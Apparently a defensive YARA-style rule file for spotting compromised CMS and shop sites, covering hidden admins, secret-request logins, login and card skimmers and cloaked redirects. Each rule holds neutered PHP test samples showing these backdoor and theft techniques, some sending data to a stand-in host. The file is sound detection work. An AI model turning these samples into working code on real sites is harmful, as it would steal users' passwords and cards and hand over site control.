/* What uses the CMS itself: hidden plug-ins and users, logins and administrators for the attacker, kept passwords and cards. */

rule hides_from_lists {
  meta:
    id = "account/hides-from-lists"
    title = "A plug-in or a user is taken out of the lists that administrators see"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "A filter takes a named plug-in, the file itself or a named user out of the lists of the administration, or counts one administrator less: whoever looks there sees nothing."
    remedy = "Delete the file and the user that it hides; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1564/002/"
    must_match = "<?php exit; add_filter('all_plugins', 'inert'); function inert($p) { unset($p[plugin_basename(__FILE__)]); return $p; }"
    must_match = "<?php exit; add_action('pre_current_active_plugins', function () { global $wp_list_table; unset($wp_list_table->items['inert/inert.php']); });"
    must_match = "<?php exit; $h = array('inert/inert.php'); foreach ($wp_list_table->items as $k => $v) { if (in_array($k, $h)) { unset($wp_list_table->items[$k]); } }"
    must_match = "<?php exit; add_action('pre_user_query', 'inert'); $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'inert'\", $q->query_where);"
    must_match = "<?php exit; add_filter('views_users', function ($v) { $n = $c['avail_roles']['administrator'] - 1; return $v; });"
    must_match = "<?php exit; add_filter('all_plugins', 'inert'); function inert($p) { if (isset($p['inert/inert.php'])) { unset($p['inert/inert.php']); } return $p; }"
    must_match = "<?php exit; add_filter('users_list_table_query_args', function ($a) { $u = get_user_by('login', 'inert'); $a['exclude'] = [$u->ID]; return $a; });"
    must_match = "<?php exit; add_action('load-user-edit.php', 'inert'); if ($_GET['user_id'] == $id) wp_die(__('Invalid user ID.'));"
    must_not = "<?php add_filter('all_plugins', 'hide'); function hide($p) { if (!current_user_can('manage_network')) { unset($p[$own]); } return $p; }"
    must_not = "<?php add_filter('all_plugins', 'label'); function label($p) { $p[$own]['Name'] = 'Agency'; return $p; }"
    must_not = "<?php add_action('pre_user_query', 'sort'); $q->query_orderby = str_replace('user_login', 'last_name', $q->query_orderby);"
  strings:
    $plugins = "all_plugins" private
    $itself = /\bunset\s?\(\s?\$\w{1,30}\[\s?plugin_basename\s?\(\s?__FILE__\s?\)\s?\]\s?\)/
    $named = /\bunset\s?\(\s?\$wp_list_table\s?->\s?items\s?\[\s?["'][\w.\/-]{3,80}\.php["']\s?\]\s?\)/
    $listed = /=\s?(array\s?\(|\[)\s?["'][\w.-]{1,60}\/[\w.-]{1,60}\.php["'][^;]{0,400};[^;]{0,120}\$wp_list_table\s?->\s?items[^;]{0,200}unset\s?\(\s?\$wp_list_table/
    $filter = /\badd_filter\s?\(\s?["']all_plugins["']/
    $taken = /\bunset\s?\(\s?\$\w{1,30}\s?\[\s?["'][\w.\/-]{3,80}\.php["']\s?\]\s?\)|=\s?(plugin_basename\s?\(\s?__FILE__|basename\s?\(\s?dirname\s?\(\s?__FILE__)[^}]{0,240}\bunset\s?\(\s?\$\w{1,30}\s?\[\s?\$\w{1,20}\s?\]\s?\)/
    $label = /(white.?label|is_multisite|is_network_admin|current_user_can|get_site_option|rebrand|TGM_Plugin)/ nocase
    $where = /WHERE [^"'\n]{1,40} AND [^"'\n]{0,40}\b(user_login|ID)\s?(!=|<>)\s?["'\\{]{0,2}\$?[\w.@-]{1,40}/
    $login = /\bget_user_by\s?\(\s?["'](login|email)["']\s?,\s?["'][\w.@-]{2,40}["']/
    $left_out = /(\[\s?["']exclude["']\s?\]\s?=|->set\s?\(\s?["']exclude["'])/
    $users = /["'](pre_get_users|users_list_table_query_args|pre_user_query)["']/
    $edited = "load-user-edit.php"
    $denied = /Invalid user ID/
    $query = "pre_user_query" private
    $counted = /(\[\s?["']administrator["']\s?\]\s?(-=?\s?1\b|--)|avail_roles["']\s?\]\s?\[\s?["']administrator["']\s?\]\s?-)/
    $views = "views_users" private
  condition:
    filesize < 512KB and (($plugins and $itself) or $named or $listed or ($query and $where) or ($views and $counted) or ($filter and $taken and not $label) or ($users and $login and $left_out) or ($edited and $denied))
}

rule hides_its_row {
  meta:
    id = "account/hides-its-row"
    title = "The row of a plug-in is hidden in the administration by a style"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "A style sheet that is printed into the administration makes the row of one plug-in or user invisible: whoever looks at the list does not see it."
    remedy = "Delete the file and the user that it hides; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1564/"
    must_match = "<?php exit; add_action('admin_head', 'inert'); echo '<style>.plugins tr[data-slug=\"inert\"]{display:none!important}</style>';"
    must_not = "<?php echo '<style>tr[data-slug=\"mine\"] .deactivate a{color:red}</style>';"
  strings:
    $admin = /["'](admin_head|admin_footer|admin_print_styles|pre_current_active_plugins)(-plugins\.php)?["']/
    $row = /\btr\[data-(slug|plugin)\s?\^?=\s?[\\"']{0,3}[\w.\/-]{2,80}[\\"']{0,3}\]\s?(,[^{}]{0,200})?\{\s?(display\s?:\s?none|visibility\s?:\s?hidden)/
  condition:
    $admin and $row
}

rule login_by_secret_request {
  meta:
    id = "account/login-by-secret-request"
    title = "Whoever knows a word in the address is logged in as administrator"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "A hook looks for a field of the request and then logs the visitor in as the first or any administrator, without a password, a token or a check."
    remedy = "Delete the lines, then look for who placed them; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1556/"
    unless_code = "\\b(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_user_meta|delete_transient|password_verify)\\s?\\("
    must_match = "<?php exit; add_action('init', function () { if (isset($_GET['inert']) && $_GET['inert'] === '1') { $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID, true); exit; } });"
    must_match = "<?php exit; if (md5($_REQUEST['inert']) === '0') { $id = $wpdb->get_var(\"SELECT user_id FROM m WHERE v LIKE '%administrator%'\"); wp_set_auth_cookie($id); }"
    must_match = "<?php exit; if (!isset($_GET['inert']) || $_GET['inert'] != 'k') { return; } $a = get_users(['role' => 'administrator']); wp_set_auth_cookie($a[0]->ID);"
    must_not = "<?php if (isset($_GET['a']) && $_GET['a'] === '1') { if (!wp_verify_nonce($_GET['n'], 'a')) { die; } $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID, true); }"
    must_not = "<?php if (isset($_GET['key'])) { $user = get_user_by('login', $name); if (hash_equals($kept, $_GET['key'])) { wp_set_auth_cookie($user->ID); } }"
    must_not = "<?php if (isset($_POST['log'])) { $user = wp_signon($_POST); wp_set_auth_cookie($user->ID); }"
  strings:
    $direct = /\$_(GET|REQUEST|COOKIE|POST)\s?\[[^{}]{1,200}\{[^{}]{0,600}\bwp_set_auth_cookie\s?\(/
    $chosen = /\b(get_users\s?\([^;]{0,120}["']administrator["']|get_user_by\s?\(\s?["'](id|ID)["']\s?,\s?["']?1\b|wp_set_auth_cookie\s?\(\s?["']?1\b|get_userdata\s?\(\s?["']?1\b|user_id\s?=\s?["']?1\b|ID\s?=\s?["']?1\b)|%administrator%/
    $set = /\bwp_set_auth_cookie\s?\(/
    $secret = /(\bisset\s?\(\s?@?\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]|\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]\s?\)?\s?(={2,3}|!={1,2})\s?["'])/
  condition:
    $set and $chosen and filesize < 128KB and ($direct or (for any of ($set) : ($secret in (@set[1] - 700..@set[1]) and $chosen in (@set[1] - 400..@set[1] + 40))))
}

rule administrator_kept_by_hook {
  meta:
    id = "account/administrator-kept-by-hook"
    title = "A hook sees to it that an administrator with a fixed name exists"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "Name and password are written in the code, and a hook makes that user an administrator wherever it is missing: whoever deletes the user sees it come back."
    remedy = "Delete the file and the user that it makes; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1136/"
    unless_code = "\\b\\w{0,40}TestCase\\b|->factory\\b|\\bWP_CLI\\b|\\bcurrent_user_can\\s?\\(|\\bcodeception\\b|\\bPHPUnit\\b"
    must_match = "<?php exit; add_action('init', 'inert'); $login = 'inert'; $pass = 'inert'; if (!username_exists($login)) { $id = wp_create_user($login, $pass, 'a@example.test'); $u = new WP_User($id); $u->set_role('administrator'); }"
    must_match = "<?php exit; $p = array('user_login' => 'inert', 'user_pass' => 'inert', 'role' => 'administrator'); add_action('init', function () use ($p) { if (!username_exists($p['user_login'])) wp_insert_user($p); });"
    must_match = "<?php exit; $p = 'x'; $id = wp_insert_user(['user_login' => 'inert', 'user_pass' => $p, 'role' => 'administrator']); wp_remote_post('https://inert.example.test/c', ['body' => ['u' => 'inert', 'p' => $p]]);"
    must_match = "<?php exit; $wpdb->insert($wpdb->users, ['user_login' => 'inert', 'user_pass' => md5('inert')]); $v = 'a:1:{s:13:\"administrator\";b:1;}';"
    must_match = "<?php exit; wp_insert_user(['user_login' => $_GET['u'], 'user_pass' => $_GET['p'], 'role' => 'administrator']);"
    must_match = "<?php exit; require './wp-blog-header.php'; $id = wp_create_user($name, $word); $u = new WP_User($id); $u->set_role('administrator');"
    must_match = "<?php exit; define('_JEXEC', 1); $d = ['username' => 'inert', 'groups' => [8]]; $u = new JUser; $u->bind($d); $u->save();"
    must_match = "<?php exit; db_update('users')->fields(['pass' => user_hash_password('inert')])->condition('uid', 1)->execute();"
    must_match = "<?php exit; $wpdb->query(\"CREATE TRIGGER a AFTER DELETE ON u FOR EACH ROW INSERT INTO u (user_login, user_pass) VALUES ('inert', '')\");"
    must_match = "<?php exit; require 'wp-load.php'; wp_set_password('inert', 1);"
    must_match = "<?php exit; require 'wp-load.php'; $wpdb->update($wpdb->users, ['user_pass' => md5('inert')], ['ID' => 1]);"
    must_not = "<?php class UserTest extends WP_UnitTestCase { function set_up() { add_action('init', 'a'); $login = 'inert'; $pass = 'inert'; if (!username_exists($login)) { $u = new WP_User(wp_create_user($login, $pass)); $u->set_role('administrator'); } } }"
    must_not = "<?php add_action('init', 'x'); $login = $_POST['login']; $pass = wp_generate_password(); if (!username_exists($login)) { $id = wp_create_user($login, $pass, $mail); $u = new WP_User($id); $u->set_role('subscriber'); }"
    must_not = "<?php wp_set_password($_POST['pass1'], $user->ID); // reset"
  strings:
    $makes = /\bwp_(create|insert)_user\s?\(/
    $role = /(set_role|add_role)\s?\(\s?["']administrator["']|["']role["']\s?=>\s?["']administrator["']/
    $word = /(\$(this->)?\w{0,20}(pass|pw|pwd|passw|password)\w{0,6}\s?=|["']user_pass["']\s?=>|\b(private|public|protected|const|static)\s{1,3}\$?\w{0,20}(pass|pw)\w{0,8}\s?=)\s?["'][^"'$\n]{4,60}["']\s?[;,)\]]/
    $exists = /\b(username_exists|email_exists)\s?\(/
    $hook = /\badd_action\s?\(\s?["'](init|wp|wp_head|wp_footer|wp_loaded|plugins_loaded|after_setup_theme|template_redirect|admin_init|muplugins_loaded)["']/
    $told = /\b(wp_remote_(post|get)|file_get_contents|curl_init|wp_mail|mail)\s?\(\s?["'](https?:\/\/|[\w.-]{1,40}@)[^;]{0,300}\$\w{0,20}(p|pw|pass|pwd|password)\b/
    $inserted = /->insert\s?\(\s?\$wpdb->users\b[^;]{0,300}["']user_pass["']\s?=>\s?(md5|wp_hash_password)\s?\(\s?["'][^"'$\n]{1,60}["']/
    $rights = /a:1:\{s:13:\\?["']administrator|(array\s?\(|\[)\s?["']administrator["']\s?=>\s?(true|1)/
    $set = /\bwp_set_password\s?\(\s?["'][^"'$\n]{1,60}["']\s?,\s?["']?\d{1,6}\b/
    $updated = /->update\s?\(\s?\$wpdb->users\s?,[^;]{0,120}["']user_pass["']\s?=>\s?(md5|wp_hash_password)\s?\(\s?["'][^"'$\n]{1,60}["']/
    $loose = /(wp-load|wp-blog-header|wp-config)\.php["']/
    $sent = /["']user_pass["']\s?=>\s?(\$_(GET|REQUEST|COOKIE)\b|base64_decode\s?\()|\bwp_create_user\s?\(\s?\$_(GET|REQUEST|COOKIE)\b/
    $groups = /["']groups["']\s?=>\s?(array\s?\(|\[)\s?["']?8\b/
    $framework = /\bdefine\s?\(\s?["']_JEXEC["']/
    $user = /\bnew\s{1,3}(JUser|User)\b|\bJUser::/
    $first = /user_hash_password\s?\(\s?["'][^"'$]{1,60}["']\s?\)[^;]{0,80}condition\s?\(\s?["']uid["']\s?,\s?1\b/
    $trigger = /CREATE\s{1,4}TRIGGER\b[^;]{0,300}\bINSERT\s{1,4}INTO\b[^;]{0,120}\buser_(login|pass)\b/ nocase
  condition:
    filesize < 128KB and (($makes and $role and ($sent or ($loose and filesize < 6KB))) or ($groups and $framework and $user) or $first or (($makes and $role) and (($word and $exists and $hook) or ($told and filesize < 32KB))) or ($inserted and $rights) or (($set or $updated) and $loose) or $trigger)
}

rule login_fields_kept {
  meta:
    id = "thief/login-fields-kept"
    title = "What is typed into the login is kept or told elsewhere"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "The function that checks the password of the CMS also writes it to a file, mails it or tells it to another server."
    remedy = "Restore the file from the release of its vendor, then change the password of every user who logged in since."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "<?php exit; file_get_contents('https://inert.example.test/?p=' . $credentials['user_password']);"
    must_match = "<?php exit; class P { function onUserAuthenticate($credentials) { fwrite($f, $credentials['username'] . ':' . $credentials['password']); } }"
    must_match = "<?php exit; function wp_authenticate($username, $password) { $m = $username . ':' . $password; file_get_contents('https://inert.example.test/?t=' . urlencode($m)); }"
    must_match = "<?php exit; if (isset($_POST['log'])) { $d = $_POST['log'] . '|' . $_POST['pwd']; file_put_contents('inert.png', base64_encode($d), FILE_APPEND); }"
    must_not = "<?php function wp_authenticate($username, $password) { $user = apply_filters('authenticate', null, $username, $password); return $user; }"
    must_not = "<?php function onUserAuthenticate($credentials) { $ok = $ldap->bind($credentials['username'], $credentials['password']); }"
  strings:
    $credentials = /\b(file_put_contents|fwrite|fputs|wp_mail|mail|file_get_contents|wp_remote_get|wp_remote_post)\s?\([^;]{0,200}\$credentials\s?\[\s?["'](user_)?password["']/
    $address = /=\s?["']https?:\/\/[^;]{0,200}\$credentials\s?\[\s?["'](user_)?password["']/
    $core = /\bfunction\s{1,3}(wp_authenticate|wp_signon|wp_check_password|onUserAuthenticate|onUserLogin|processLogin|userLogin)\s?\([^)]{0,200}\)[^{]{0,20}\{[^}]{0,300}(\b(file_put_contents|fwrite|fputs|wp_mail|mail|curl_exec|wp_remote_get|wp_remote_post)\s?\(|\bfile_get_contents\s?\(\s?["']https?:)/
    $field = /\$_(POST|REQUEST)\s?\[\s?["']pwd["']\s?\][^{}]{0,200}(\bfile_put_contents\s?\([^;]{0,200}FILE_APPEND|\bfwrite\s?\(|\bfputs\s?\(|\bfile_get_contents\s?\(\s?["']https?:|\bwp_remote_(get|post)\s?\(\s?["']https?:|\bcurl_exec\s?\(|\bmail\s?\()/
    $filter = /\(\s?\$user\s?(=\s?null\s?)?,\s?\$\w{0,12}(name|login)\w{0,6}\s?(=\s?["']{2}\s?)?,\s?\$\w{0,12}pass\w{0,6}[^)]{0,20}\)[^{]{0,20}\{[^;]{0,200};[^}]{0,240}\b(file_put_contents\s?\(|fwrite\s?\(|fputs\s?\(|file_get_contents\s?\(\s?["']https?:|(wp_)?mail\s?\(\s?["'][\w.-]{1,40}@)/
    $hooked = /\badd_(action|filter)\s?\(\s?["'](wp_authenticate|authenticate|wp_login|check_password)["']\s?,/
    $written = /\bfunction\s{1,3}\w{1,40}\s?\(\s?&?\$\w{1,12}\s?,\s?&?\$\w{1,12}[^)]{0,40}\)[^{]{0,10}\{[^}]{0,300}\b(fwrite|fputs|file_put_contents)\s?\([^;]{0,80}\$(p|pw|pass\w{0,6}|pwd)\b/
    $honest = /(recaptcha|hcaptcha|turnstile|wp_verify_nonce|check_ajax_referer|pwnedpasswords)/ nocase
  condition:
    any of ($credentials, $address, $core, $filter) or ($field and not $honest) or ($hooked and $written)
}

rule core_class_tells {
  meta:
    id = "thief/core-class-tells"
    title = "A class of the CMS for logins or payments tells elsewhere what it gets"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "A core class of Magento, PrestaShop or WooCommerce that checks passwords, cards or requests holds a transfer to another server, a mail or an appended file: none of its releases does."
    remedy = "Restore the file from the release of its vendor, and tell the shop's owner and the payment provider what was taken."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "<?php exit; class Mage_Admin_Model_Session { public function login($username, $password) { $c = curl_init('https://inert.example.test/'); curl_exec($c); } }"
    must_match = "<?php exit; class WC_Checkout { function process() { wp_remote_post('https://inert.example.test/', ['body' => $_POST]); } }"
    must_not = "<?php class My_Pay_Model_Cc extends Mage_Payment_Model_Method_Cc { function capture() { curl_exec($this->handle); } }"
    must_not = "<?php class Mage_Admin_Model_Session extends Mage_Core_Model_Session_Abstract { public function login($username, $password) { return $this->user->login($username, $password); } }"
  strings:
    $tag = "<?" private
    $class = /\bclass\s{1,3}(Mage_Admin_Model_(Session|User)|Mage_Payment_Model_(Method_Cc|Method_Abstract|Info)|Mage_Checkout_Model_Type_Onepage|Mage_Checkout_OnepageController|Mage_Customer_AccountController|Mage_Core_Controller_(Front_Action|Varien_Action|Varien_Front)|Mage_Sales_Model_Quote_Payment|AdminLoginController(Core)?|FrontControllerCore|AuthControllerCore|WC_Checkout|WC_Form_Handler|WC_Payment_Gateway_CC)\s{0,3}(extends|implements|\{|$)/
    $away = /\b(curl_exec|fsockopen|mail|wp_remote_post|wp_remote_get|wp_mail)\s?\(|\bfile_get_contents\s?\(\s?["']https?:|\bFILE_APPEND\b|\bfopen\s?\([^;]{1,120},\s?["']a/
  condition:
    $tag and $class and $away
}

rule site_led_elsewhere_by_statement {
  meta:
    id = "cloak/changed-in-the-database"
    title = "A script changes the address of the site or its pages in the database"
    family = "doorway-cloak-redirect"
    severity = "high"
    confidence = "likely"
    description = "A script writes a fixed foreign address into the settings of the site, or a script tag into every page that is published."
    remedy = "Delete the script, and take what it wrote out of the database."
    reference = "https://attack.mitre.org/techniques/T1565/001/"
    must_match = "<?php exit; mysqli_query($c, \"UPDATE wp_options SET option_value='https://inert.example.test' WHERE option_name='siteurl'\");"
    must_match = "<?php exit; $wpdb->query(\"UPDATE $wpdb->posts SET post_content = CONCAT(post_content, '<script src=https://inert.example.test/a.js></script>')\");"
    must_not = "<?php $wpdb->query(\"UPDATE $wpdb->options SET option_value='$new' WHERE option_name='siteurl'\");"
  strings:
    $tag = "<?" private
    $address = /UPDATE\s{1,3}[^\s;]{1,40}options\b`?\s{1,3}SET\s{1,3}`?option_value`?\s?=\s?[\\"']{1,2}https?:\/\/[^"'$;{]{4,120}[\\"']{1,2}\s{1,3}WHERE\s{1,3}`?option_name`?\s?=\s?[\\"']{1,2}(siteurl|home)\b/ nocase
    $pages = /UPDATE\s{1,3}[^\s;]{1,40}(posts|_content)\b`?\s{1,3}SET\s{1,3}`?(post_content|introtext|fulltext)`?\s?=[^;]{0,120}<script[^;]{0,40}\bsrc\s?=/ nocase
  condition:
    $tag and any of ($address, $pages)
}

rule script_kept_elsewhere {
  meta:
    id = "persistence/script-kept-elsewhere"
    title = "A script is written from a hidden option or from another server, again and again"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "What an option of the CMS keeps encoded, or another server answers, is written into a PHP file of the site: whoever deletes the file sees it come back."
    remedy = "Delete the code, the option that keeps the script, and the written file; look for the task that starts it."
    reference = "https://attack.mitre.org/techniques/T1546/"
    must_match = "<?php exit; file_put_contents(WP_PLUGIN_DIR . '/inert/inert.php', base64_decode(get_option('inert')));"
    must_match = "<?php exit; $r = wp_remote_get('https://inert.example.test/x.txt'); $b = wp_remote_retrieve_body($r); file_put_contents(ABSPATH . 'inert.php', $b);"
    must_not = "<?php $b = wp_remote_retrieve_body($r); file_put_contents($folder . '/feed.json', $b);"
    must_not = "<?php file_put_contents($folder . '/style.css', get_option('css'));"
  strings:
    $tag = "<?" private
    $option = /\bfile_put_contents\s?\([^;{}]{1,160},\s?(base64_decode|gzinflate|gzuncompress|str_rot13|hex2bin)\s?\(\s?(\w{4,20}\s?\(\s?)?get_(site_)?(option|transient)\s?\(/
    $body = /\bwp_remote_retrieve_body\s?\([^;{}]{1,120}\)\s?;[^{}]{0,120}\bfile_put_contents\s?\([^;{}]{1,120}\.php["']\s?,\s?\$\w{1,20}\s?\)/
    $straight = /\bfile_put_contents\s?\([^;{},]{1,120}\.php["']\s?,\s?wp_remote_retrieve_body\s?\(/
  condition:
    $tag and any of ($option, $body, $straight)
}

rule kept_in_a_picture {
  meta:
    id = "thief/kept-in-a-picture"
    title = "What visitors send is appended to a file with the name of a picture"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "Fields of the request, often encoded, are added to a picture, an icon or a font: a store of stolen passwords or cards that its owner fetches with a browser."
    remedy = "Keep the file and the store as evidence, tell the site's owner what was taken, and restore the file from a release."
    reference = "https://attack.mitre.org/techniques/T1074/001/"
    must_match = "<?php exit; file_put_contents('media/inert.jpg', base64_encode(serialize($_POST)) . '--', FILE_APPEND);"
    must_match = "<?php exit; $f = fopen('images/inert.gif', 'a'); fwrite($f, $_POST['x']);"
    must_not = "<?php file_put_contents('avatar.png', base64_decode($_POST['image']));"
    must_not = "<?php file_put_contents($log . '/debug.log', print_r($_POST, true), FILE_APPEND);"
  strings:
    $appended = /\bfile_put_contents\s?\([^;]{0,160}\.(jpe?g|png|gif|ico|bmp|webp|svg|woff2?|ttf|mp3)["']\s?,[^;]{1,300}\b(FILE_APPEND|8)\s?\)/ nocase
    $opened = /\bfopen\s?\([^;]{0,160}\.(jpe?g|png|gif|ico|bmp|webp|svg|woff2?|ttf|mp3)["']\s?,\s?["']a[b+t]{0,2}["']/ nocase
    $sent = /\$_(POST|REQUEST|COOKIE)\b|php:\/\/input|\$credentials\b|getPost\s?\(|Tools::getValue/ private
  condition:
    $sent and any of ($appended, $opened)
}

rule request_searched_for_cards {
  meta:
    id = "thief/request-searched-for-cards"
    title = "Everything that is sent is searched for cards, and passed on"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "The whole request, made into one text or field by field, is searched for names of card fields or for card numbers; where they stand it is written, mailed or sent elsewhere."
    remedy = "Delete the lines, tell the shop's owner and the payment provider, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "<?php exit; if (preg_match('/cc_number|cvv/i', serialize($_POST))) { file_put_contents('inert.txt', serialize($_POST), FILE_APPEND); }"
    must_match = "<?php exit; foreach ($_POST as $k => $v) { if (preg_match('/^[3-6]\\d{12,18}$/', $v)) { curl_exec($c); } }"
    must_match = "<?php exit; $s = base64_encode(json_encode($_POST)); if (!empty($_REQUEST['cardnumber']) || !empty($_POST['cvv'])) file_get_contents('https://inert.example.test/?d=' . $s);"
    must_not = "<?php if (preg_match('/^4\\d{15}$/', $_POST['card_number'])) { $gateway->charge($_POST['card_number']); }"
    must_match = "<?php exit; add_action('woocommerce_checkout_process', 'inert'); wp_remote_post('https://inert.example.test/w', ['body' => base64_encode(serialize($_POST))]);"
    must_match = "<?php exit; $x = $_POST['card_number'] . ';' . $_POST['card_cvv']; fwrite($f, $x);"
    must_not = "<?php foreach ($_POST as $k => $v) { $clean[$k] = trim($v); } curl_exec($c);"
  strings:
    $searched = /\b(strpos|stripos|strstr|stristr|preg_match|str_contains)\s?\(/
    $whole = /(cc_number|cc_cid|card_?number|\bcvv|\bcvc)[^;{}]{0,60}\b(serialize|json_encode|print_r|implode|http_build_query|var_export)\s?\(\s?([^;{}]{0,20},\s?)?\$_(POST|REQUEST)\b/ nocase
    $each = /\bforeach\s?\(\s?\$_(POST|REQUEST)\s{1,3}as\b[^;{}]{0,40}\)\s?\{?[^}]{0,160}\bpreg_match\s?\([^;]{0,40}\[[345\-6]{1,5}\]\S{0,20}(\\d|\[0-9\])\{1[0-5],/ nocase
    $packed = /\b(base64_encode|gzcompress|bin2hex)\s?\(\s?(serialize|json_encode|http_build_query)\s?\(\s?(array\s?\(|\[)?\s?\$_(POST|REQUEST)\b/ nocase
    $card = /\$_(POST|REQUEST)\s?\[\s?["'](payment["']\s?\]\s?\[\s?["'])?(cc_number|cc_cid|card_?-?number|cardnumber|cvv2?|cvc|card_cvv)["']/ nocase
    $joined = /(\$_(POST|REQUEST)|->post)\s?\[\s?["'](payment["']\s?\]\s?\[\s?["'])?\w{0,12}(cc_number|cc_cvv2?|cc_cid|card_?num\w{0,5}|card_cvv|cvv2?|cvc|ccnum)["']\s?\]\s?\.\s?["'][^"'\n]{1,4}["']\s?\.\s?(\$_(POST|REQUEST)|\$this->request->post)\s?\[/ nocase
    $kept = /\b(mail|file_put_contents|fwrite|fputs)\s?\(|\bfile_get_contents\s?\(\s?["']https?:/
    $checkout = /["']woocommerce_(after_checkout_validation|checkout_order_processed|checkout_process|checkout_update_order_meta|payment_complete|new_order|thankyou)["']/
    $coded = /\bwp_remote_(post|get)\s?\(\s?["']https?:[^;]{1,160}\b(base64_encode|bin2hex|gzcompress)\s?\(\s?(serialize|json_encode|http_build_query)\s?\(/
    $passed = /\b(mail|curl_exec|file_put_contents|fsockopen|fwrite|wp_remote_post|wp_remote_get|file_get_contents\s?\(\s?["']https?:)/
  condition:
    $passed and (($whole and $searched) or $each or ($packed and $card) or ($joined and $kept) or ($checkout and $coded)) and filesize < 512KB
}

rule all_but_administrators_sent_away {
  meta:
    id = "cloak/all-but-administrators-sent-away"
    title = "Visitors are sent to another site, but neither robots nor who is logged in"
    family = "doorway-cloak-redirect"
    severity = "high"
    confidence = "likely"
    description = "The code asks whether the visitor is logged in and whether a search engine asks, and sends everybody else to a fixed address elsewhere: so its owner does not see it."
    remedy = "Delete the file or the lines, then look for what writes them again."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "<?php exit; if (!is_user_logged_in() && !preg_match('/googlebot|bing/i', $_SERVER['HTTP_USER_AGENT'])) { wp_redirect('https://inert.example.test/update'); exit; }"
    must_match = "<?php exit; if (is_user_logged_in()) return; if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) return; header('Location: https://inert.example.test/'); exit;"
    must_not = "<?php if (!is_user_logged_in() && $closed) { wp_redirect(wp_login_url()); exit; } // googlebot may come: HTTP_USER_AGENT"
    must_not = "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') === false && !is_user_logged_in()) { $counter->visit(); }"
  strings:
    $login = /(is_user_logged_in\s?\(|wordpress_logged_in|wp-settings-)/
    $robots = /["'\/(|](googlebot|bingbot|slurp|baiduspider|bot\|crawl|bot\|spider|yandex|crawler)\b/ nocase
    $asked = "HTTP_USER_AGENT"
    $away = /\b(wp_redirect|header)\s?\(\s?["'](Location:\s?)?https?:\/\/[^"'$]{4,120}["']|<script[^>]{0,40}>[^<]{0,80}location(\.href)?\s?(=|\.replace\()\s?\\?["']https?:\/\//  nocase
  condition:
    $away and $robots and $asked and $login and filesize < 24KB
}

rule links_for_this_host {
  meta:
    id = "cloak/links-for-this-host"
    title = "Every page shows what another server has for this host"
    family = "doorway-cloak-redirect"
    severity = "high"
    confidence = "likely"
    description = "A hook of the page's head, foot or text tells another server which site this is and prints what it answers: links that somebody sells."
    remedy = "Delete the lines, then look for who placed them: a theme or plug-in that was given away, or an intruder."
    reference = "https://attack.mitre.org/techniques/T1608/006/"
    must_match = "<?php exit; add_action('wp_footer', 'inert'); function inert() { $l = @file_get_contents('http://inert.example.test/l.php?host=' . $_SERVER['HTTP_HOST']); echo $l; }"
    must_match = "<?php exit; add_action('wp_footer', function () { $r = wp_remote_get('https://inert.example.test/?d=' . urlencode(home_url())); if (!is_wp_error($r)) echo wp_remote_retrieve_body($r); });"
    must_match = "<?php exit; add_filter('the_content', 'inert'); function inert($c) { $l = file_get_contents('http://inert.example.test/?d=' . $_SERVER['HTTP_HOST']); $c .= $l; return $c; }"
    must_match = "<?php exit; function onAfterRender() { $l = file_get_contents('http://inert.example.test/?d=' . $_SERVER['HTTP_HOST']); $b = str_replace('</body>', $l . '</body>', $b); }"
    must_match = "<?php exit; add_action('wp_footer', 'inert'); $r = wp_remote_post($u, ['body' => ['host' => $_SERVER['HTTP_HOST'], 'ua' => $_SERVER['HTTP_USER_AGENT']]]); $b = wp_remote_retrieve_body($r); if ($b) echo $b;"
    must_not = "<?php add_action('wp_footer', 'credits'); $news = wp_remote_get('https://api.example.test/?site=' . home_url()); $this->latest = json_decode(wp_remote_retrieve_body($news));"
    must_not = "<?php add_action('wp_footer', 'pixel'); echo '<img src=\"https://stats.example.test/?h=' . $_SERVER['HTTP_HOST'] . '\">';"
  strings:
    $hook = /["'](wp_footer|wp_head|the_content|the_excerpt|wp_nav_menu|widget_text|get_footer|wp_body_open|loop_start|loop_end)["']|\bonAfterRender\b|\bob_start\s?\(\s?["'$\[a]/
    $host = /\b(file_get_contents|wp_remote_get|wp_remote_post|curl_init|fopen)\s?\(\s?["']https?:\/\/[^;{}]{4,200}(HTTP_HOST|SERVER_NAME|home_url\s?\(|site_url\s?\(|get_bloginfo\s?\(|get_permalink\s?\(|REQUEST_URI)[^;{}]{0,120};[^{}]{0,120}\}?[^{}]{0,240}(\b(echo|print)\s{0,2}\(?\s{0,2}(\$\w{1,30}|wp_remote_retrieve_body\s?\([^;]{1,40})\s{0,2}\)?;|\.=\s?\$\w{1,30};|["']<\/body>["']|return\s{1,2}\$\w{1,30}\s?\.\s?\$)/
